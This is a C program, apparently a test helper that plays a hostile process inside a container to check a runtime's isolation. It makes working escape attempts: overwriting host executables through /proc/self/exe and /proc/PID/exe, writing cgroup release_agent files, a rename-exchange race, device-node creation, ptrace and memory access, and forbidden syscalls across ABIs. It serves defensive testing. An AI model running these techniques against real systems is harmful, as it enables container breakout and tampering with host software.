/*
 * What a hostile process in a container does, for the tests of escapes. Static, so that any root file system runs it.
 *
 *   exchange A B            swaps two names for ever
 *   executables             for ever: gets hold of every process's executable that is not of the container, and tries to
 *                           write to it; prints each new outcome
 *   overwrite FD            does that to one
 *   descriptors [PID]       one line per open descriptor: number, kind, device, access, what it leads to
 *   paths PATH...           one line per path: what is there, and of which device
 *   release-agent           tries to have the kernel start a program on the host when a cgroup empties
 *   calls                   forbidden system calls by every ABI of the machine
 *   node TYPE MAJOR MINOR   makes a device and opens it
 *   keyring                 serial and description of the session's keyring
 *   trace PID               attaches to a process, reads its memory
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static const char *outcome(long result)
{
	return result < 0 ? strerror(errno) : "done";
}

static int exchange(const char *a, const char *b)
{
	printf("swapping\n");
	fflush(stdout);
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE))
			return 1;
}

/* Prints a line that has not been printed before. */
static void tell_once(const char *what, const char *how)
{
	static char told[64][96];
	char line[96];

	snprintf(line, sizeof(line), "%s: %s", what, how);
	for (int i = 0; i < 64; i++) {
		if (!strcmp(told[i], line))
			return;
		if (told[i][0])
			continue;
		strcpy(told[i], line);
		printf("%s\n", line);
		fflush(stdout);
		return;
	}
}

/* While it runs nobody can write to it: so it is tried for a while. Another mode can be given to it at any time. */
static void overwrite(int fd)
{
	time_t until = time(NULL) + 2;
	char path[32];
	int out;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	while ((out = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && time(NULL) < until)
		sched_yield();
	tell_once("open", outcome(out));
	if (out >= 0)
		tell_once("write", outcome(write(out, "#!/evil\n", 8)));
	tell_once("chmod", outcome(chmod(path, 06777)));
	tell_once("truncate", outcome(truncate(path, 0)));
	if (out >= 0)
		close(out);
}

static int executables(void)
{
	struct stat own, shell, found;

	if (stat("/proc/self/exe", &own) || stat("/bin/busybox", &shell))
		return 1;
	tell_once("watching", "yes");
	for (;;) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			char path[300];
			int fd;

			if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd >= 0 && !fstat(fd, &found) && found.st_ino != own.st_ino && found.st_ino != shell.st_ino)
				overwrite(fd);
			if (fd >= 0)
				close(fd);
		}
		if (dir)
			closedir(dir);
	}
}

static const char *kind_of(mode_t mode)
{
	return S_ISDIR(mode)  ? "directory" :
	       S_ISCHR(mode)  ? "character" :
	       S_ISBLK(mode)  ? "block" :
	       S_ISREG(mode)  ? "file" :
	       S_ISFIFO(mode) ? "pipe" :
	       S_ISSOCK(mode) ? "socket" :
	       S_ISLNK(mode)  ? "link" :
				"other";
}

static void describe(const char *name, const struct stat *st)
{
	printf("%s %s %u:%u", name, kind_of(st->st_mode), major(st->st_rdev), minor(st->st_rdev));
}

static int descriptors(const char *pid)
{
	char directory[64], path[400], target[4096];
	struct dirent *entry;
	struct stat null, st;
	DIR *dir;

	snprintf(directory, sizeof(directory), "/proc/%s/fd", pid);
	dir = opendir(directory);
	if (!dir || stat("/dev/null", &null))
		return 1;
	while ((entry = readdir(dir))) {
		ssize_t n;

		if (entry->d_name[0] == '.' || (!strcmp(pid, "self") && atoi(entry->d_name) == dirfd(dir)))
			continue;
		snprintf(path, sizeof(path), "%s/%s", directory, entry->d_name);
		n = readlink(path, target, sizeof(target) - 1);
		if (n < 0 || stat(path, &st))
			continue;
		target[n] = '\0';
		describe(entry->d_name, &st);
		/* The null device of the host has the same number, and is another file. */
		if (S_ISCHR(st.st_mode) && st.st_rdev == null.st_rdev && st.st_dev != null.st_dev)
			printf(" foreign");
		printf(" %s\n", target);
	}
	closedir(dir);
	return 0;
}

static int paths(char **list)
{
	for (; *list; list++) {
		struct stat st;
		int fd = open(*list, O_WRONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
		const char *writable = fd >= 0 ? "writable" : strerror(errno);

		if (stat(*list, &st)) {
			printf("%s absent\n", *list);
			continue;
		}
		describe(*list, &st);
		printf(" %s\n", writable);
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

static void write_agent(const char *directory)
{
	static const char *const files[] = { "release_agent", "notify_on_release", "devices.allow", "cgroup.procs", "tasks" };
	char path[400];

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		int fd;

		snprintf(path, sizeof(path), "%s/%s", directory, files[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		printf("%s %s: %s\n", directory, files[i],
		       outcome(write(fd, i == 0 ? "/evil" : i == 2 ? "a" : "1", i == 0 ? 5 : 1)));
		close(fd);
	}
}

static void mounted_agents(void)
{
	DIR *dir = opendir("/sys/fs/cgroup");
	struct dirent *entry;
	char path[300];

	write_agent("/sys/fs/cgroup");
	while (dir && (entry = readdir(dir))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/sys/fs/cgroup/%s", entry->d_name);
		write_agent(path);
	}
	if (dir)
		closedir(dir);
}

static void mount_agents(const char *who)
{
	static const char *const options[] = { "memory", "cpu",	  "cpuacct", "cpuset", "devices",	"freezer", "blkio",
					       "pids",	 "rdma", "misc",	"hugetlb", "none,name=systemd", "net_cls" };
	int remounted = mount(NULL, "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL);

	printf("%s remount: %s\n", who, outcome(remounted));
	for (size_t i = 0; i < sizeof(options) / sizeof(options[0]); i++) {
		if (mount("cgroup", "/tmp", "cgroup", 0, options[i]))
			continue;
		printf("%s mounted %s\n", who, options[i]);
		write_agent("/tmp");
		umount2("/tmp", MNT_DETACH);
	}
}

static int release_agent(void)
{
	pid_t pid;

	mounted_agents();
	mount_agents("as it is");
	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		int unshared = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);

		printf("unshare: %s\n", outcome(unshared));
		if (!unshared) {
			mount_agents("in a user namespace");
			mounted_agents();
		}
		fflush(stdout);
		_exit(0);
	}
	return waitpid(pid, NULL, 0) < 0;
}

static void call_outcome(const char *abi, const char *name, long result)
{
	printf("%s %s: %s\n", abi, name, result >= 0 ? "done" : strerror((int)-result));
}

#if defined(__x86_64__)
/* The ABI of 32 bits from a program of 64: the filter must know it. */
static long call_32(long number, long a, long b, long c)
{
	long result;

	__asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}

static long call_64(long number, long a, long b, long c)
{
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c)
			 : "memory", "rcx", "r11");
	return result;
}

/* With harmless arguments: what the filter lets through fails otherwise, or does nothing. */
static int calls(void)
{
	static const struct {
		const char *name;
		long narrow, wide;
		long a, b, c;
	} list[] = {
		{ "unshare", 310, 272, CLONE_NEWUSER, 0, 0 }, { "setns", 346, 308, -1, 0, 0 },
		{ "mount", 21, 165, 0, 0, 0 },		      { "umount2", 52, 166, 0, 0, 0 },
		{ "keyctl", 288, 250, 0, -3, 0 },	      { "add_key", 286, 248, 0, 0, 0 },
		{ "bpf", 357, 321, 0, 0, 0 },		      { "perf_event_open", 336, 298, 0, 0, 0 },
		{ "userfaultfd", 374, 323, 0, 0, 0 },	      { "init_module", 128, 175, 0, 0, 0 },
		{ "kexec_load", 283, 246, 0, 0, 0 },	      { "open_by_handle_at", 342, 304, -1, 0, 0 },
		{ "reboot", 88, 169, 0, 0, 0 },		      { "swapon", 87, 167, 0, 0, 0 },
		{ "pivot_root", 217, 155, 0, 0, 0 },	      { "fsopen", 430, 430, 0, 0, 0 },
		{ "io_uring_setup", 425, 425, 0, 0, 0 },
	};

	for (size_t i = 0; i < sizeof(list) / sizeof(list[0]); i++) {
		call_outcome("x86-64", list[i].name, call_64(list[i].wide, list[i].a, list[i].b, list[i].c));
		call_outcome("x32", list[i].name, call_64(list[i].wide | 0x40000000, list[i].a, list[i].b, list[i].c));
		fflush(stdout);
	}
	for (size_t i = 0; i < sizeof(list) / sizeof(list[0]); i++) {
		call_outcome("i386", list[i].name, call_32(list[i].narrow, list[i].a, list[i].b, list[i].c));
		fflush(stdout);
	}
	return 0;
}
#else
static int calls(void)
{
	call_outcome("native", "unshare", unshare(CLONE_NEWUSER) ? -errno : 0);
	return 0;
}
#endif

static int node(const char *type, const char *major_text, const char *minor_text)
{
	mode_t mode = (*type == 'b' ? S_IFBLK : S_IFCHR) | 0600;
	int made, fd;

	unlink("/tmp/node");
	made = mknod("/tmp/node", mode, makedev((unsigned)atoi(major_text), (unsigned)atoi(minor_text)));

	printf("mknod: %s\n", outcome(made));
	fd = open("/tmp/node", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	printf("open: %s\n", outcome(fd));
	return 0;
}

static int trace(pid_t pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	printf("memory: %s\n", outcome(fd));
	printf("attach: %s\n", outcome(ptrace(PTRACE_ATTACH, pid, NULL, NULL)));
	snprintf(path, sizeof(path), "/proc/%d/root/.", (int)pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	printf("root: %s\n", outcome(fd));
	snprintf(path, sizeof(path), "/proc/%d/fd/.", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	printf("descriptors: %s\n", outcome(fd));
	return 0;
}

/* The keys a process searches: its session's. */
static int keyring(void)
{
	char text[256] = "";
	long serial = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);

	if (syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, text, sizeof(text) - 1) < 0)
		snprintf(text, sizeof(text), "%s", strerror(errno));
	printf("%ld %s\n", serial, text);
	return 0;
}

/* As the loader of the runtime itself, started once more in the container: its file is to be had by /proc/self/exe. */
static int as_loader(void)
{
	char number[16];

	snprintf(number, sizeof(number), "%d", open("/proc/self/exe", O_PATH));
	return execl("/bin/attacker", "attacker", "overwrite", number, NULL);
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (argc && !strcmp(argv[0], "/proc/self/exe"))
		return as_loader();
	if (!strcmp(what, "overwrite") && argc == 3) {
		overwrite(atoi(argv[2]));
		return 0;
	}

	if (!strcmp(what, "exchange") && argc == 4)
		return exchange(argv[2], argv[3]);
	if (!strcmp(what, "executables"))
		return executables();
	if (!strcmp(what, "descriptors"))
		return descriptors(argc > 2 ? argv[2] : "self");
	if (!strcmp(what, "paths"))
		return paths(argv + 2);
	if (!strcmp(what, "release-agent"))
		return release_agent();
	if (!strcmp(what, "calls"))
		return calls();
	if (!strcmp(what, "node") && argc == 5)
		return node(argv[2], argv[3], argv[4]);
	if (!strcmp(what, "keyring"))
		return keyring();
	if (!strcmp(what, "trace") && argc == 3)
		return trace((pid_t)atoi(argv[2]));
	return 2;
}
